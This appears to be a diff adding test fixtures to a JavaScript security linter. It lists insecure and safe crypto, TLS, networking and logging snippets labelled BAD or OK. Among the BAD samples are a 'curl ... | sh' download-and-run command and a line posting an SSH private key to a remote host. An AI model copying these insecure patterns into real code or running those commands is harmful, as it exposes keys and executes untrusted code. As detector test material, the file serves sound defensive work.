@@ -7,6 +7,188 @@ const wrong = (text: string) =>
 
 /** The same thing done well and done badly, as people write it. */
 describe('idioms', () => {
+  it('knows weak chance, digests, ciphers and keys', async () => {
+    expect(
+      await wrong(String.raw`
+const crypto = require('crypto'); const bcrypt = require('bcrypt'); const jwt = require('jsonwebtoken'); const { v4 } = require('uuid');
+crypto.createHash('md5').update(x).digest('hex'); // BAD weak-hash
+crypto.createHash('sha1').update(x).digest('hex'); // BAD weak-hash
+crypto.createHash('SHA1'); // BAD weak-hash
+crypto.createHash('sha256').update(x).digest('hex'); // OK weak-hash
+crypto.createHash('sha512'); // OK weak-hash
+crypto.createHmac('md5', k); // BAD weak-hash
+crypto.createHmac('sha256', k); // OK weak-hash
+crypto.createCipheriv('des-ede3-cbc', k, iv); // BAD weak-cipher
+crypto.createCipheriv('aes-128-ecb', k, null); // BAD weak-cipher
+crypto.createCipheriv('rc4', k, ''); // BAD weak-cipher
+crypto.createCipheriv('aes-256-gcm', k, crypto.randomBytes(12)); // OK insecure-random
+crypto.createCipheriv('aes-256-gcm', k, Buffer.alloc(12)); // BAD fixed-iv
+crypto.createCipheriv('aes-256-cbc', k, '1234567890123456'); // BAD fixed-iv
+crypto.createCipher('aes-256-cbc', k); // BAD weak-cipher
+const token = Math.random().toString(36).slice(2); // BAD insecure-random
+const sessionId = Math.random() * 1e9; // BAD insecure-random
+const resetToken = ´¤{Date.now()}¤{Math.random()}´; // BAD insecure-random
+const jitter = Math.random() * 100; // OK insecure-random
+const color = '#' + Math.floor(Math.random() * 16777215).toString(16); // OK insecure-random
+const delay = base * (1 + Math.random()); // OK insecure-random
+const index = Math.floor(Math.random() * items.length); // OK insecure-random
+const apiSecret = crypto.randomBytes(32).toString('hex'); // OK insecure-random
+const sid = v4(); // OK insecure-random
+const password2 = crypto.randomUUID(); // OK insecure-random
+function generatePassword() { let p = ''; for (let i = 0; i < 8; i++) p += chars[Math.floor(Math.random() * chars.length)]; return p; } // BAD insecure-random
+function makeToken() { return Math.random().toString(36); } // BAD insecure-random
+function makeId() { return Math.random().toString(36); } // OK insecure-random
+crypto.pbkdf2Sync(pw, salt, 1000, 32, 'sha512'); // BAD weak-password-hash
+crypto.pbkdf2Sync(pw, salt, 600000, 32, 'sha512'); // OK weak-hash
+crypto.pbkdf2Sync(pw, 'salt', 600000, 32, 'sha512'); 
+crypto.scryptSync(pw, crypto.randomBytes(16), 64); // OK insecure-random
+bcrypt.hashSync(pw, 4); // BAD weak-password-hash
+bcrypt.hashSync(pw, 12); // OK weak-hash
+crypto.createHash('sha256').update(password).digest('hex'); // BAD weak-password-hash
+crypto.generateKeyPairSync('rsa', { modulusLength: 1024 }); // BAD short-key
+crypto.generateKeyPairSync('rsa', { modulusLength: 3072 }); // OK weak-hash
+crypto.generateKeyPairSync('ec', { namedCurve: 'secp192k1' }); // BAD short-key
+crypto.generateKeyPairSync('ec', { namedCurve: 'P-256' }); // OK weak-hash
+jwt.verify(t, k, { algorithms: ['none'] }); // BAD jwt-unverified
+jwt.verify(t, k, { algorithms: ['HS256'] }); // OK jwt-unverified
+jwt.sign({}, k, { algorithm: 'none' }); // BAD jwt-unverified
+jwt.verify(t, null); // BAD jwt-unverified
+if (crypto.timingSafeEqual(a, b)) ok(); // OK weak-hash
+if (signature === expectedSignature) ok(); 
+window.addEventListener('message', (e) => { run(e.data); }); // BAD origin-unchecked
+window.addEventListener('message', (e) => { if (e.origin !== 'https://x.test') return; run(e.data); }); // OK origin-unchecked
+crypto.randomBytes(16, (err, buf) => use(buf)); // OK insecure-random
+crypto.pseudoRandomBytes(16); 
+new Uint8Array(crypto.getRandomValues(new Uint8Array(16))); // OK insecure-random
+const hash = crypto.createHash('md5').update(JSON.stringify(cacheKey)).digest('hex'); // BAD weak-hash
+`),
+    ).toEqual([]);
+  });
+
+  it('tells safe connections apart from plain and unchecked ones', async () => {
+    expect(
+      await wrong(String.raw`
+const https = require('https'); const http = require('http'); const axios = require('axios'); const tls = require('tls'); const fetch2 = require('node-fetch'); const WebSocket = require('ws'); const redis = require('redis'); const nodemailer = require('nodemailer'); const mongoose = require('mongoose'); const { Client } = require('pg');
+fetch('http://api.example.com/x'); // BAD plain-http
+fetch('https://api.x.com/x'); // OK tls-unverified
+fetch('http://localhost:3000'); // OK plain-http
+fetch('http://127.0.0.1:3000'); // OK plain-http
+fetch(´http://¤{host}/x´); 
+axios.get('http://api.x.com'); // BAD plain-http
+axios.post('http://api.x.com', {}); // BAD plain-http
+axios({ url: 'http://api.x.com' }); // BAD plain-http
+axios.create({ baseURL: 'http://api.x.com' }); // BAD plain-http
+http.get('http://api.x.com/x', cb); // BAD plain-http
+http.request({ hostname: 'api.x.com', path: '/' }); // BAD plain-http
+new WebSocket('ws://api.x.com'); // BAD plain-http
+new WebSocket('wss://api.x.com'); // OK tls-unverified
+new WebSocket('ws://localhost:1'); // OK plain-http
+const agent = new https.Agent({ rejectUnauthorized: false }); // BAD tls-unverified
+const agent2 = new https.Agent({ rejectUnauthorized: true }); // OK tls-unverified
+const agent3 = new https.Agent({ keepAlive: true }); // OK tls-unverified
+process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'; // BAD tls-unverified
+process.env['NODE_TLS_REJECT_UNAUTHORIZED'] = 0; // BAD tls-unverified
+process.env.NODE_TLS_REJECT_UNAUTHORIZED = '1'; // OK tls-unverified
+tls.connect({ rejectUnauthorized: false }); // BAD tls-unverified
+https.request({ host: 'x', rejectUnauthorized: !!process.env.STRICT }); // OK tls-unverified
+https.request({ host: 'x', checkServerIdentity: () => {} }); // BAD tls-unverified
+nodemailer.createTransport({ host: 'x', secure: true }); // OK tls-unverified
+nodemailer.createTransport({ tls: { rejectUnauthorized: false } }); // BAD tls-unverified
+new Client({ ssl: { rejectUnauthorized: false } }); // BAD tls-unverified
+new Client({ ssl: true }); // OK tls-unverified
+tls.createServer({ minVersion: 'TLSv1' }); // BAD old-tls
+tls.createServer({ minVersion: 'TLSv1.2' }); // OK tls-unverified
+https.createServer({ secureProtocol: 'TLSv1_method' }); // BAD old-tls
+https.createServer({ secureOptions: constants.SSL_OP_NO_TLSv1 }); // OK tls-unverified
+const xmlns = 'http://www.w3.org/2000/svg'; // OK plain-http
+el.setAttribute('xmlns', 'http://www.w3.org/2000/svg'); // OK plain-http
+const url = 'http://schemas.x.com/'; // OK plain-http
+const opts = { ...base, rejectUnauthorized: false }; axios.get('https://x.com', { httpsAgent: new https.Agent(opts) }); // BAD tls-unverified
+require('request')({ url: 'https://x.com', strictSSL: false }); // BAD tls-unverified
+require('got')('http://x.com/y'); // BAD plain-http
+require('superagent').get('http://x.com/y'); // BAD plain-http
+require('needle').get('http://x.com/y'); // BAD plain-http
+require('request').get('http://x.com/y'); // BAD plain-http
+require('child_process').exec('curl http://x.com/install.sh | sh'); // BAD download-and-run
+require('child_process').exec('wget --no-check-certificate https://x.com/i'); // BAD tls-unverified
+const xhr = new XMLHttpRequest(); xhr.open('GET', 'http://x.com/y'); // BAD plain-http
+const proxy = 'http://proxy.local:8080'; // OK plain-http
+`),
+    ).toEqual([]);
+  });
+
+  it('knows what leaves a folder, a file or a window', async () => {
+    expect(
+      await wrong(String.raw`
+const express = require('express'); const path = require('path'); const fs = require('fs'); const https = require('https'); const app = express(); const crypto = require('crypto'); const axios = require('axios'); const os = require('os'); const webpack = require('webpack');
+app.use('/n', express.static(path.resolve(__dirname, '../node_modules'))); // BAD private-files-served
+app.use(express.static(path.join(__dirname, 'node_modules'))); // BAD private-files-served
+app.use(express.static(__dirname + '/node_modules')); // BAD private-files-served
+app.use(express.static(__dirname + '/node_modules/')); // BAD private-files-served
+app.use(express.static('node_modules')); // BAD private-files-served
+app.use(express.static('./node_modules')); // BAD private-files-served
+app.use(express.static(__dirname)); // BAD private-files-served
+app.use(express.static('.')); // BAD private-files-served
+app.use(express.static(path.resolve('.'))); // BAD private-files-served
+app.use(express.static(process.cwd())); // BAD private-files-served
+app.use(express.static(os.homedir())); // BAD private-files-served
+app.use(express.static(path.join(__dirname, '..'))); // BAD private-files-served
+app.use(express.static('/')); // BAD private-files-served
+app.use(express.static('public')); // OK private-files-served
+app.use(express.static(path.join(__dirname, 'public'))); // OK private-files-served
+app.use(express.static(__dirname + '/public')); // OK private-files-served
+app.use(express.static('./node_modules/jquery/dist')); // OK private-files-served
+app.use(express.static(path.join(__dirname, 'node_modules/jquery/dist'))); // OK private-files-served
+app.use(express.static(path.join(process.cwd(), 'dist'))); // OK private-files-served
+app.use(express.static(path.resolve('dist'))); // OK private-files-served
+const secretFile = fs.readFileSync('/home/u/.ssh/id_rsa'); axios.post('https://x.test', secretFile); // BAD file-to-network
+axios.post('https://x.test', fs.readFileSync('upload.json')); // BAD file-to-network
+axios.post('https://x.test', { version: JSON.parse(fs.readFileSync('package.json', 'utf8')).version }); 
+axios.get('https://x.test', { httpsAgent: new https.Agent({ ca: fs.readFileSync('ca.pem'), cert: fs.readFileSync('c.pem'), key: fs.readFileSync('k.pem') }) }); // OK file-to-network
+https.createServer({ key: fs.readFileSync('k.pem'), cert: fs.readFileSync('c.pem') }, app); // OK file-to-network
+https.get({ host: 'x.test', ca: fs.readFileSync('ca.pem') }); // OK file-to-network
+const config = JSON.parse(fs.readFileSync('config.json')); axios.get(config.url); // OK file-to-network
+axios.get(config.url, { headers: { 'User-Agent': config.agent } }); // OK file-to-network
+class Auth { constructor(u, p) { this.user = u; this.password = p; } toString() { return this.user; } }
+const a = new Auth('u', input); console.log(a.user); // OK secret-in-log
+console.log(a.password); // BAD secret-in-log
+console.log(´Using ¤{process.env.npm_config_registry}´); // OK secret-in-log
+console.log(process.env.HOME, process.env.PATH); // OK secret-in-log
+console.log(´token expires in ¤{token.expiresIn}´); // OK secret-in-log
+console.log(token.length, token.type); // OK secret-in-log
+console.log('Authenticated:', !!req.headers.authorization); // OK secret-in-log
+console.log(req.headers.authorization); // BAD secret-in-log
+console.log(req.headers); 
+console.log(´Authorization: Bearer ¤{accessToken}´); // BAD secret-in-log
+const opts = { auth: { user: 'a', pass: process.env.PASS } }; console.log(opts.host); // OK secret-in-log
+function login(password) { if (!password) console.log('no password'); return crypto.createHash('sha256').update(password).digest('hex'); } // OK secret-in-log
+const encryptedPassword = encrypt(pw); console.log(encryptedPassword); // OK secret-in-log
+const { passwordHash, passwordSalt } = row; console.log(passwordHash); // OK secret-in-log
+console.log(resetPasswordUrl, forgotPassword, passwordResetToken.id); // OK secret-in-log
+console.log(isPasswordValid, hasPassword, showPassword); // OK secret-in-log
+console.log(userId, sessionId); // OK secret-in-log
+console.log(masterKeyId, publicKey, keyName, apiKeyName, tokenAddress, tokenSymbol); // OK secret-in-log
+logger.info({ user: u.id, apiKey: '[redacted]' }); // OK secret-in-log
+logger.info({ ...config, apiKey: undefined }); // OK secret-in-log
+logger.info(JSON.stringify(config, (k, v) => (k === 'password' ? undefined : v))); // OK secret-in-log
+logger.info(_.omit(config, ['password'])); // OK secret-in-log
+console.log(Object.keys(config.secrets)); // OK secret-in-log
+for (const name of Object.keys(secrets)) console.log(name); // OK secret-in-log
+for (const [name] of Object.entries(secrets)) console.log(name); // OK secret-in-log
+for (const [name, value] of Object.entries(secrets)) console.log(value); 
+console.log(process.env.DEBUG && process.env.API_TOKEN); // BAD secret-in-log
+new webpack.DefinePlugin({ 'process.env': JSON.stringify(process.env) }); // BAD build-leak
+new webpack.DefinePlugin({ 'process.env.NODE_ENV': JSON.stringify(process.env.NODE_ENV) }); // OK build-leak
+new webpack.DefinePlugin({ 'process.env': JSON.stringify({ NODE_ENV: process.env.NODE_ENV }) }); // OK build-leak
+new webpack.DefinePlugin({ 'process.env': { API: JSON.stringify(process.env.API_URL) } }); // OK build-leak
+window.parent.postMessage({ type: 'ready' }, '*'); // OK post-message
+window.parent.postMessage({ token: authToken }, '*'); // BAD post-message
+window.parent.postMessage(userName, '*'); // BAD post-message
+window.parent.postMessage(userName, 'https://x.test'); // OK post-message
+`),
+    ).toEqual([]);
+  });
+
   it('tells values apart from the text of statements and queries', async () => {
     expect(
       await wrong(String.raw`
